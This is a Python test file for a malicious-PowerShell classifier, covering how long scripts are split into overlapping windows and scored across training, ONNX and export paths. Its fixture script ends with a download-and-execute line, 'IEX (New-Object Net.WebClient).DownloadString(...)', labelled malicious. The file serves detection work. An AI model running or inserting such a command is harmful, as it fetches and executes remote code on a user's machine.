"""Whole-script reading (model.window_stride > 0): a script longer than the budget is read as overlapping windows,
scored as the mean or max of their log-odds, the same way in training rows, PyTorch scoring, the ONNX fast path, the
hf export and explain's read mask; off (the default) leaves every prompt as it was."""
from __future__ import annotations

import json
import math
import shutil
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.config import ConfigError, load_config
from pipeline.model import head, prompt
from pipeline.model.classifier import THRESHOLD_FILE, Classifier, open_classifier
from pipeline.model.prompt import Windows
from pipeline.run.records import write_json

from .conftest import FAST_TRAINING, TINY_CONFIG

MAX_LEN = 64
LONG = "\n".join(f"Write-Output 'step {i}'" for i in range(60)) + "\nIEX (New-Object Net.WebClient).DownloadString('x')"
SHORT = "Get-ChildItem -Path . | Sort-Object Length"
WINDOWS = Windows(stride=24, aggregation="mean", max_windows=8)


def _rows(n: int) -> tuple[list[str], list[str]]:
    texts = [(LONG if i % 2 else SHORT) + f"\n# {i}\n" + "Write-Output $i\n" * (i % 5) for i in range(n)]
    return texts, ["malicious" if i % 2 else "benign" for i in range(n)]


@pytest.fixture(scope="module")
def trained(tmp_path_factory) -> tuple[Path, object, object]:
    """(run directory, model, tokenizer): a tiny StarCoder2 trained a few steps, saved as a windowed classifier."""
    from .model_configs import train_tiny

    texts, labels = _rows(16)
    out = tmp_path_factory.mktemp("windows_run")
    model, tokenizer = train_tiny(texts, labels, "powershell", out, MAX_LEN, steps=4)
    Classifier.save(model, tokenizer, out / "train" / "classifier", base_model=None, max_length=MAX_LEN,
                    head_ratio=0.75, windows=WINDOWS)
    write_json(out / "evaluate" / THRESHOLD_FILE, {"threshold": 0.5})
    return out, model, tokenizer


def test_window_starts_cover_the_script_and_the_cap_keeps_first_and_last():
    w = Windows(stride=10, max_windows=100)
    assert prompt.window_starts(30, 40, w) == [0]  # fits: one window
    starts = prompt.window_starts(95, 40, w)
    assert starts == [0, 10, 20, 30, 40, 50, 55]  # the last one ends at the script's end
    assert all(b - a <= 40 for a, b in zip(starts, starts[1:]))  # no gap: every token is read
    assert prompt.window_starts(95, 40, Windows(stride=100)) == [0, 40, 55]  # a stride past the budget: no gap
    capped = prompt.window_starts(1000, 40, Windows(stride=10, max_windows=4))
    assert len(capped) == 4 and capped[0] == 0 and capped[-1] == 960
    assert prompt.window_starts(1000, 40, Windows(stride=0)) == [0]  # off


def test_windows_off_or_a_short_script_gives_the_old_prompt_and_long_ones_every_window(trained):
    _, _, tok = trained
    for text in (SHORT, LONG):
        assert prompt.encode_windows(text, "powershell", tok, MAX_LEN) == [prompt.encode(text, "powershell", tok,
                                                                                           MAX_LEN)]
    assert prompt.encode_windows(SHORT, "powershell", tok, MAX_LEN, windows=WINDOWS) == \
        [prompt.encode(SHORT, "powershell", tok, MAX_LEN)]
    windows = prompt.encode_windows(LONG, "powershell", tok, MAX_LEN, windows=WINDOWS)
    prefix, suffix = prompt._ids(tok, prompt.PREFIX.format(lang="powershell")), prompt._ids(tok, prompt.SUFFIX)
    script = prompt._ids(tok, LONG)
    budget = MAX_LEN - len(prefix) - len(suffix) - 1
    assert len(windows) == len(prompt.window_starts(len(script), budget, WINDOWS)) > 2
    for ids, start in zip(windows, prompt.window_starts(len(script), budget, WINDOWS)):
        assert ids == prefix + script[start:start + budget] + suffix and len(ids) == MAX_LEN - 1


def test_training_rows_read_one_of_the_scored_windows_drawn_with_the_seed(trained):
    _, _, tok = trained
    texts, labels = _rows(12)
    langs = ["powershell"] * 12
    off = prompt.build_training_rows(texts, langs, labels, tok, MAX_LEN)
    assert off == [prompt.build_training_row(t, "powershell", y, tok, MAX_LEN) for t, y in zip(texts, labels)]
    rows = prompt.build_training_rows(texts, langs, labels, tok, MAX_LEN, windows=WINDOWS, seed=1)
    assert rows == prompt.build_training_rows(texts, langs, labels, tok, MAX_LEN, windows=WINDOWS, seed=1)
    verdicts = prompt.label_token_ids(tok)
    for row, text, label in zip(rows, texts, labels):
        assert row["input_ids"][-1] == verdicts[label == "malicious"] and sum(row["completion_mask"]) == 1
        assert row["input_ids"][:-1] in prompt.encode_windows(text, "powershell", tok, MAX_LEN, windows=WINDOWS)
    other = prompt.build_training_rows(texts * 4, langs * 4, labels * 4, tok, MAX_LEN, windows=WINDOWS, seed=2)
    long_rows = {tuple(r["input_ids"]) for r, t in zip(other, texts * 4) if t.startswith(LONG)}
    assert len(long_rows) > len([t for t in texts if t.startswith(LONG)])  # repeated rows read other windows


@pytest.mark.parametrize("aggregation", ["mean", "max"])
def test_a_windowed_script_scores_the_aggregate_of_its_windows_log_odds(trained, aggregation):
    run, model, tok = trained
    windows = Windows(WINDOWS.stride, aggregation, WINDOWS.max_windows)
    texts = [LONG, SHORT, LONG + "\nStart-Sleep 1"]
    got = head.score(model, tok, texts, ["powershell"] * 3, MAX_LEN, windows=windows, batch_size=3)
    for text, score in zip(texts, got):
        prompts = prompt.encode_windows(text, "powershell", tok, MAX_LEN, windows=windows)
        p = head.score_ids(model, prompts, pad_token_id=tok.pad_token_id)
        logits = np.log(p / (1 - p))
        z = logits.max() if aggregation == "max" else logits.mean()
        assert score == pytest.approx(p[0] if len(p) == 1 else 1 / (1 + math.exp(-z)), abs=1e-9)
    off = head.score(model, tok, texts, ["powershell"] * 3, MAX_LEN)
    assert off[1] == got[1] and abs(off[0] - got[0]) > 1e-6  # the short script as before, the long one read whole


def test_the_recorded_windows_serve_the_same_scores_on_every_path(trained, tmp_path):
    """The classifier's spec carries the windows: PyTorch, the ONNX fast path and the hf export all read them."""
    from pipeline.model.onnx_export import export_onnx
    from pipeline.model.onnx_runtime import open_fast

    run, model, tok = trained
    texts = [LONG, SHORT, LONG + "\nStart-Sleep 1", SHORT * 40]
    expected = head.score(model, tok, texts, ["powershell"] * 4, MAX_LEN, windows=WINDOWS)
    slow = open_classifier(run, device="cpu")
    assert slow.windows == WINDOWS
    np.testing.assert_allclose(slow.score(texts, ["powershell"] * 4), expected, rtol=0, atol=1e-7)
    shutil.copytree(run, tmp_path / "run")
    export_onnx(tmp_path / "run" / "train" / "classifier")
    fast, why = open_fast(tmp_path / "run")
    assert fast is not None and fast.windows == WINDOWS, why
    np.testing.assert_allclose(fast.score(texts, ["powershell"] * 4), expected, rtol=0, atol=1e-5)
    done = CliRunner().invoke(app, ["export", str(tmp_path / "hf"), "--run-dir", str(run)])
    assert done.exit_code == 0, done.output
    exported = open_classifier(tmp_path / "hf", device="cpu")
    assert exported.exported and exported.windows == WINDOWS
    np.testing.assert_allclose(exported.score(texts, ["powershell"] * 4), expected, rtol=0, atol=1e-5)


def test_explain_reads_every_window_and_marks_lines_between_capped_windows_unread(trained):
    from pipeline.explain import ClassifierScorer, window_read_mask

    run, _, tok = trained
    clf = open_classifier(run, device="cpu")
    lines = LONG.split("\n")
    assert ClassifierScorer(clf).read_mask(LONG, "powershell") == window_read_mask(LONG, "powershell", tok, MAX_LEN,
                                                                                   WINDOWS)
    every = window_read_mask(LONG, "powershell", tok, MAX_LEN, Windows(stride=24, max_windows=1000))
    assert every == [True] * len(lines)
    capped = window_read_mask(LONG, "powershell", tok, MAX_LEN, Windows(stride=24, max_windows=2))
    assert capped[0] and capped[-1] and not all(capped)  # first and last windows only: the middle is not read


def test_window_keys_are_validated():
    with pytest.raises(ConfigError, match="window_stride"):
        load_config(TINY_CONFIG, overrides=["model.window_stride=512"])
    with pytest.raises(ConfigError, match="window_aggregation"):
        load_config(TINY_CONFIG, overrides=["model.window_aggregation=median"])
    with pytest.raises(ConfigError, match="max_windows"):
        load_config(TINY_CONFIG, overrides=["model.max_windows=0"])


def test_a_run_with_windows_trains_evaluates_and_predicts_with_them(tmp_path, tiny_overrides):
    """The train stage records the windows in the classifier, evaluate scores with them, predict serves them."""
    from pipeline.run.records import read_records
    from pipeline.run.runner import run_pipeline

    cfg = load_config(TINY_CONFIG, overrides=[*tiny_overrides, *FAST_TRAINING, "training.max_steps=2",
                                              "model.max_length=96", "model.window_stride=40",
                                              "model.window_aggregation=max", "evaluation.per_language_thresholds=false"])
    run_pipeline(cfg, tmp_path, until="evaluate", log=lambda m: None)
    spec = json.loads((tmp_path / "train" / "classifier" / "sgpipe_scoring.json").read_text())
    assert spec["window_stride"] == 40 and spec["window_aggregation"] == "max" and spec["max_windows"] == 8
    test = list(read_records(tmp_path / "split" / "test.jsonl"))
    stored = [json.loads(line)["score"] for line in (tmp_path / "evaluate" / "predictions.jsonl").open()]
    clf = open_classifier(tmp_path, device="cpu")
    np.testing.assert_allclose(clf.score_records(test), stored, rtol=0, atol=1e-6)
    off = Classifier(clf.model, clf.tokenizer, clf.max_length, clf.head_ratio)
    assert not np.allclose(off.score_records(test), stored, atol=1e-6)  # the long test scripts were read whole
